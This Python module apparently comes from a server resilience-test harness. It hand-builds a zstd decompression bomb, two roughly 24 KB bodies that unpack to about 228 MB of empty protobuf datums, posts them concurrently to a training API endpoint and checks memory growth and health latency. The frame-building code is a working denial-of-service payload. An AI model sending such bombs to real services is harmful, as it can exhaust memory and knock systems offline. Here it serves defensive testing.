"""Passes of a few kilobytes that are hundreds of megabytes of empty datums when they are read."""

import threading

from attack.harness import healthz

TITLE = "two 24 KB passes that unpack to 228 MB of empty datums"
BLOCKS = 1740  # of 128 KiB


def frame(start):
    """A zstd frame of some bytes and then `BLOCKS` blocks in which an empty datum (1a 00) is repeated."""
    raw = (len(start) << 3).to_bytes(3, "little") + start
    # Two literals, and one sequence with tables of one symbol: literal length 2, offset 2, match length 131070.
    bits = 1 << 18 | 1 << 16 | 131070 - 65539
    block = bytes([0x10, 0x1A, 0x00, 1, 0x54, 2, 2, 52]) + bits.to_bytes(3, "little")
    def header(last):
        return (len(block) << 3 | 2 << 1 | last).to_bytes(3, "little")
    blocks = (header(0) + block) * (BLOCKS - 1) + header(1) + block
    return bytes.fromhex("28b52ffd") + bytes([0x00, 7 << 3]) + raw + blocks


def attack(target):
    server = target.serve()
    api = server.api()
    model = api.model(api.session())
    before = server.memory_mib()
    headers = {"content-type": "application/x-protobuf", "content-encoding": "zstd"}
    statuses = []

    def send(seq_id):
        body = frame(bytes([0x0A, len(model)]) + model.encode() + bytes([0x10, seq_id]))
        try:
            statuses.append(api.send("POST", "/api/v1/forward_backward", body, headers)[0])
        except OSError as error:
            statuses.append(type(error).__name__)

    senders = [threading.Thread(target=send, args=[seq_id]) for seq_id in (1, 2)]
    with healthz(server) as probe:
        for sender in senders:
            sender.start()
        for sender in senders:
            sender.join(60)
    worst = probe.percentile(0.99)
    grown = server.memory_mib() - before
    held = worst < 0.5 and not probe.failures and grown < 1200 and server.is_alive()
    return f"{statuses}, health p99 {1000 * worst:.0f} ms, {grown:.0f} MiB more", held
